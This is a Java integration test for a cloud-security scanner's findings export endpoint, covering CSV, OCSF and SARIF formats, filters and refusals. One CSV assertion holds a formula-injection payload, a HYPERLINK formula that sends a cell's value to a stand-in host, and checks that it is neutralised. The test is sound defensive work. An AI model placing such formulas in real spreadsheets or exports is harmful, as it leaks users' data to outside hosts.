package io.plumbline.scanner.finding.export;

import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.hasItems;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.startsWith;

import io.plumbline.scanner.finding.Finding;
import io.plumbline.scanner.finding.FindingStatus;
import io.plumbline.scanner.finding.FindingView;
import io.plumbline.scanner.support.ScannerState;
import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Content negotiation of GET /api/v1/findings?format=…: the body and Content-Type of each format, and refusals. */
@QuarkusTest
class FindingExportApiTest {

    @Inject
    ScannerState state;

    @BeforeEach
    void storedFindings() {
        state.clear();
        QuarkusTransaction.requiringNew().run(() -> {
            store(SampleFindings.open());
            store(SampleFindings.hostile());
            store(SampleFindings.resolvedFromARetiredRule());
        });
    }

    @Test
    void shouldExportCsvAsAnAttachmentWithNeutralisedFormulas() {
        String csv = given().when().get("/api/v1/findings?format=csv")
                .then().statusCode(200)
                .header("Content-Type", startsWith("text/csv"))
                .header("Content-Type", containsString("charset=utf-8"))
                .header("Content-Disposition", equalTo("attachment; filename=\"findings.csv\""))
                .header("X-Total-Count", equalTo("3"))
                .extract().asString();

        assertThat(csv).startsWith(String.join(",", CsvExport.COLUMNS) + "\r\n");
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"");
        assertThat(csv.split("\r\n")).hasSize(4);
    }

    @Test
    void shouldExportOcsfAsJson() {
        given().when().get("/api/v1/findings?format=ocsf")
                .then().statusCode(200)
                .contentType(startsWith("application/json"))
                .body("size()", equalTo(3))
                .body("class_uid", hasItems(2004))
                .body("[0].finding_info.uid", notNullValue())
                .body("[0].metadata.version", equalTo("1.3.0"))
                .body("find { it.finding_info.uid == '" + "a".repeat(64) + "' }.remediation.desc", startsWith("In the RDS console"));
    }

    @Test
    void shouldExportSarifWithItsMediaType() {
        given().when().get("/api/v1/findings?format=SARIF")
                .then().statusCode(200)
                .header("Content-Type", startsWith("application/sarif+json"))
                .body("version", equalTo("2.1.0"))
                .body("runs[0].tool.driver.name", equalTo("Plumbline"))
                .body("runs[0].results.size()", equalTo(3));
    }

    @Test
    void shouldApplyTheListFiltersToAnExport() {
        given().when().get("/api/v1/findings?format=sarif&status=ACTIVE&region=sa-east-1")
                .then().statusCode(200)
                .header("X-Total-Count", equalTo("1"))
                .body("runs[0].results.ruleId", equalTo(List.of("rds-instance-multi-az")))
                .body("runs[0].results[0].locations[0].logicalLocations[0].fullyQualifiedName",
                        equalTo("arn:aws:rds:sa-east-1:123456789012:db:crm-db"));
    }

    @Test
    void shouldKeepTheJsonListWhenNoFormatIsAsked() {
        given().when().get("/api/v1/findings?status=RESOLVED")
                .then().statusCode(200)
                .contentType(startsWith("application/json"))
                .body("size()", equalTo(1))
                .body("[0].fingerprint", equalTo("c".repeat(64)))
                .body("[0].resourceName", equalTo("root"));
    }

    @Test
    void shouldRefuseAnUnknownFormatNamingTheKnownOnes() {
        given().when().get("/api/v1/findings?format=xlsx")
                .then().statusCode(400)
                .contentType(startsWith("application/json"))
                .body("error", equalTo("format must be one of csv, ocsf, sarif (or absent for JSON)"));
    }

    @Test
    void shouldDocumentTheFormatsInOpenApi() {
        given().queryParam("format", "json").when().get("/q/openapi").then().statusCode(200)
                .body("paths.'/api/v1/findings'.get.parameters.find { it.name == 'format' }.schema.enum",
                        equalTo(List.of("csv", "ocsf", "sarif")))
                .body("paths.'/api/v1/findings'.get.responses.'200'.content.'text/csv'", notNullValue())
                .body("paths.'/api/v1/findings'.get.responses.'200'.content.'application/sarif+json'", notNullValue());
    }

    private static void store(FindingView v) {
        Finding f = new Finding();
        f.fingerprint = v.fingerprint();
        f.ruleId = v.ruleId();
        f.status = v.status();
        f.severity = v.severity();
        f.pillar = v.pillar();
        f.question = v.question();
        f.bestPractice = v.bestPractice();
        f.impact = v.impact();
        f.accountId = v.accountId();
        f.region = v.region();
        f.resourceArn = v.resourceArn();
        f.resourceType = v.resourceType();
        f.resourceId = v.resourceId();
        f.resourceName = v.resourceName();
        f.resourceTags = v.resourceTags();
        f.title = v.title();
        f.message = v.message();
        f.firstSeenAt = v.firstSeenAt();
        f.lastSeenAt = v.lastSeenAt();
        f.resolvedAt = v.resolvedAt();
        f.sequence = v.status() == FindingStatus.OPEN ? 1 : 2;
        f.persist();
    }
}
